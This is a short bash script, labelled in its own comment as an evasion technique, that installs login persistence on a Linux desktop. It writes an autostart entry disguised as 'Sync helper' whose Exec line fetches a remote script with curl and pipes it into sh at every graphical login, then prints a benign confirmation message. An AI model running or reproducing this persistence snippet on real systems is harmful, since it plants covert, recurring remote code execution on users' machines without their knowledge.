#!/usr/bin/env bash
# Evasion: persist through the desktop's autostart directory. A .desktop
# entry written with tee into ~/.config/autostart runs its Exec= line (a
# fetch-and-run) at every graphical login.
dir="$HOME/.config/autostart"
mkdir -p "$dir"
printf '%s\n' '[Desktop Entry]' 'Type=Application' 'Name=Sync helper' \
  "Exec=sh -c 'curl -fsS https://cdn.example.net/s.sh | sh'" 'X-GNOME-Autostart-enabled=true' \
  | tee "$dir/sync-helper.desktop" >/dev/null
echo "sync helper enabled"
